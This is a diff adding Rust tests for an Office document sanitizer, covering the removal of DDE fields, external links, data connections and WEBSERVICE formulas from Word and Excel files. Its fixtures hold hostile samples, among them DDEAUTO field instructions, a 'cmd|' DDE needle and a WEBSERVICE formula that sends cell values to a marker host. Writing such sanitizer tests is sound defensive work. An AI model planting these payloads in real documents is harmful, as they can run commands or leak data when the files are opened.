@@ -176,7 +176,7 @@ fn removes_vba_xlm_sheet_dde_and_external_links_from_a_workbook() {
         (What::ExternalReference, "externalLink1.xml"),
         (What::DataConnection, "connections.xml"),
         (What::Field, "cmd|"),
-        (What::Field, "[1]Sheet1"),
+        (What::ExternalReference, "[1]Sheet1"),
     ] {
         assert!(
             removed(&outcome, what, needle),
@@ -449,4 +449,237 @@ fn quarantines_a_macro_sheet_still_used_by_a_large_sheet_rewritten_in_parallel()
     assert_eq!(outcome.report.verdict, Verdict::Quarantined);
     assert!(outcome.output().is_none());
     assert_eq!(outcome.report.reason.unwrap().code, "unsupported");
+}
+
+// ---------------------------------------------------------------------------------------------
+// Issue #20, class 3: fields inside mc:AlternateContent, Office Math runs and nested stories.
+// ---------------------------------------------------------------------------------------------
+
+const MARK: &str = HIDDEN_MARK;
+const S: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
+
+/// Sanitizes a hostile document and checks the output everywhere: the marker and the field
+/// words are gone from every part, the kept text is there, and a second pass removes nothing.
+fn assert_fields_gone(name: &str, input: &[u8], kept: &[&str]) -> mukaika_sanitizers::Outcome {
+    let outcome = assert_fail_closed(name, input);
+    let out = outcome.output().unwrap().bytes();
+    for needle in [MARK, "DDEAUTO", "INCLUDETEXT"] {
+        assert_eq!(
+            zip_members_containing(out, needle),
+            Vec::<String>::new(),
+            "{name}: {needle} survives; report {:#?}",
+            outcome.report.removed
+        );
+    }
+    let doc = zip_text(out, "word/document.xml").unwrap();
+    for text in kept {
+        assert!(doc.contains(text), "{name}: {text} lost: {doc}");
+    }
+    assert_second_pass_removes_nothing(&outcome);
+    outcome
+}
+
+#[test]
+fn removes_fields_inside_alternate_content_branches() {
+    // Word reads the Choice (it knows w14); another reader reads the Fallback. At run level
+    // each branch holds bare run content — a whole complex field, or a simple field — that a
+    // walk looking only at w:r children never sees; at paragraph level each holds runs.
+    let outcome = assert_fields_gone(
+        "代替.docx",
+        &docx_with_fields_in_alternate_content(),
+        &[
+            "選択肢の結果",
+            "代替の結果",
+            "単純の結果",
+            "段落の代替",
+            "本文",
+            "mc:Choice",
+            "mc:Fallback",
+        ],
+    );
+    for n in 1..=4 {
+        assert!(
+            removed(&outcome, What::Field, &format!("{MARK}-{n}")),
+            "field {n}: {:#?}",
+            outcome.report.removed
+        );
+    }
+}
+
+#[test]
+fn removes_fields_inside_office_math_runs() {
+    let outcome = assert_fields_gone(
+        "数式.docx",
+        &docx_with_field_in_math(),
+        &["数式の結果", "x=1"],
+    );
+    assert!(
+        removed(&outcome, What::Field, "DDEAUTO"),
+        "{:#?}",
+        outcome.report.removed
+    );
+}
+
+#[test]
+fn removes_fields_in_a_text_box_inside_a_run() {
+    let outcome = assert_fields_gone(
+        "枠.docx",
+        &docx_with_field_in_text_box(),
+        &["枠内の結果", "txbxContent"],
+    );
+    assert!(removed(&outcome, What::Field, "DDEAUTO"));
+}
+
+#[test]
+fn quarantines_a_field_left_open_inside_an_alternate_content_branch() {
+    // Which runs a reader joins to a field opened in a branch is not ours to guess: a field
+    // must open and close inside one story, or the document waits in quarantine.
+    let body = format!(
+        "<w:p><w:r><mc:AlternateContent><mc:Choice Requires=\"w14\"><w:fldChar w:fldCharType=\"begin\"/><w:instrText> {} </w:instrText></mc:Choice><mc:Fallback><w:t>x</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>{}",
+        dde_instr(7),
+        para("本文"),
+    );
+    let outcome = process(&docx_mc(&body), "open.docx");
+    assert_eq!(
+        outcome.report.verdict,
+        Verdict::Quarantined,
+        "{:#?}",
+        outcome.report.removed
+    );
+    assert!(outcome.output().is_none());
+    assert_eq!(outcome.report.reason.unwrap().code, "malformed");
+}
+
+// ---------------------------------------------------------------------------------------------
+// Issue #20, class 4: formulas wherever a workbook keeps them.
+// ---------------------------------------------------------------------------------------------
+
+/// Sanitizes a workbook and checks no part of the output holds the marker, and that a second
+/// pass removes nothing.
+fn assert_formulas_gone(name: &str, input: &[u8]) -> mukaika_sanitizers::Outcome {
+    let outcome = assert_fail_closed(name, input);
+    let out = outcome.output().unwrap().bytes();
+    assert_eq!(
+        zip_members_containing(out, MARK),
+        Vec::<String>::new(),
+        "{name}: the marker survives; report {:#?}",
+        outcome.report.removed
+    );
+    assert_second_pass_removes_nothing(&outcome);
+    outcome
+}
+
+#[test]
+fn removes_a_dde_call_behind_a_double_quote_in_a_quoted_sheet_name() {
+    // The `"` inside the quoted sheet name once opened a "string" that swallowed the `|`.
+    let outcome = assert_formulas_gone("引用.xlsx", &xlsx_with_quoted_sheet_dde());
+    assert!(
+        removed(&outcome, What::Field, "cell A1"),
+        "{:#?}",
+        outcome.report.removed
+    );
+    assert!(removed(&outcome, What::Field, "cell B1"));
+    let out = zip_text(
+        outcome.output().unwrap().bytes(),
+        "xl/worksheets/sheet1.xml",
+    )
+    .unwrap();
+    assert!(
+        out.contains("<c r=\"A1\"><v>7</v></c>") && out.contains("<c r=\"B1\"><v>8</v></c>"),
+        "cached values stay: {out}"
+    );
+    assert!(
+        out.contains("&amp;\"x|y\"</f>"),
+        "a `|` inside a string is not DDE: {out}"
+    );
+}
+
+#[test]
+fn removes_outside_formulas_from_cells_validation_conditional_formats_extensions_and_names() {
+    let outcome = assert_formulas_gone("集計.xlsx", &xlsx_with_outside_formulas());
+    for (what, needle) in [
+        (What::ExternalReference, "name 外部"),
+        (What::Field, "name 実行"),
+        (What::DataConnection, "name ウェブ"),
+        (What::ExternalReference, "name 他ファイル"),
+        (What::Hyperlink, "cell D1"),
+        (What::DataConnection, "cell E1"),
+        (What::ExternalReference, "cell A2"),
+        (What::DataConnection, "conditional format B1"),
+        (What::ExternalReference, "conditional format B2"),
+        (What::ExternalReference, "data validation G1"),
+        (What::Field, "data validation H1"),
+        (What::Hyperlink, "conditional format H2"),
+        (What::ExternalReference, "sparkline J1"),
+    ] {
+        assert!(
+            removed(&outcome, what, needle),
+            "missing {what:?} {needle}: {:#?}",
+            outcome.report.removed
+        );
+    }
+    assert_eq!(
+        outcome.report.removed.len(),
+        13,
+        "{:#?}",
+        outcome.report.removed
+    );
+    let out = outcome.output().unwrap().bytes();
+    let wb = zip_text(out, "xl/workbook.xml").unwrap();
+    assert!(wb.contains("集計範囲") && !wb.contains("外部"), "{wb}");
+    let ws = zip_text(out, "xl/worksheets/sheet1.xml").unwrap();
+    for kept in [
+        "<c r=\"D1\" t=\"str\"><v>開く</v></c>",
+        "<c r=\"E1\" t=\"str\"><v>応答</v></c>",
+        "<c r=\"A2\"><v>1</v></c>",
+        "<c r=\"A3\"><v>2</v></c>",
+        "<f t=\"shared\" si=\"1\"/><v>400</v>",
+        "SUM(B1:B1)",
+        "F1&gt;10",
+        "\"はい,いいえ\"",
+    ] {
+        assert!(ws.contains(kept), "{kept} lost: {ws}");
+    }
+    for gone in [
+        "sqref=\"B1\"",
+        "sqref=\"B2\"",
+        "sqref=\"G1\"",
+        "count=",
+        "extLst",
+        "x14:",
+    ] {
+        assert!(!ws.contains(gone), "{gone} left: {ws}");
+    }
+}
+
+#[test]
+fn removes_outside_formulas_from_table_columns() {
+    let sheet = "<sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>項目</t></is></c><c r=\"B1\" t=\"inlineStr\"><is><t>計算</t></is></c></row><row r=\"2\"><c r=\"A2\"><v>1</v></c><c r=\"B2\"><v>2</v></c></row></sheetData><tableParts count=\"1\"><tablePart r:id=\"rId1\"/></tableParts>";
+    let table = format!(
+        "<table xmlns=\"{S}\" id=\"1\" name=\"表1\" displayName=\"表1\" ref=\"A1:B2\"><tableColumns count=\"2\"><tableColumn id=\"1\" name=\"項目\" totalsRowFunction=\"custom\"><totalsRowFormula>SUBTOTAL(109,[項目])</totalsRowFormula></tableColumn><tableColumn id=\"2\" name=\"計算\"><calculatedColumnFormula>_xlfn.WEBSERVICE(\"http://{MARK}-t.invalid/\"&amp;[@項目])</calculatedColumnFormula></tableColumn></tableColumns></table>"
+    );
+    let pkg = xlsx_package("", sheet)
+        .part(
+            "xl/tables/table1.xml",
+            "application/vnd.openxmlformats-officedocument.spreadsheetml.table+xml",
+            table,
+        )
+        .rel(
+            "xl/worksheets/sheet1.xml",
+            "rId1",
+            "table",
+            "../tables/table1.xml",
+            false,
+        );
+    let outcome = assert_formulas_gone("表.xlsx", &pkg.build());
+    assert!(
+        removed(&outcome, What::DataConnection, "calculatedColumnFormula"),
+        "{:#?}",
+        outcome.report.removed
+    );
+    let table = zip_text(outcome.output().unwrap().bytes(), "xl/tables/table1.xml").unwrap();
+    assert!(
+        table.contains("SUBTOTAL(109,[項目])") && table.contains("name=\"計算\""),
+        "{table}"
+    );
 }
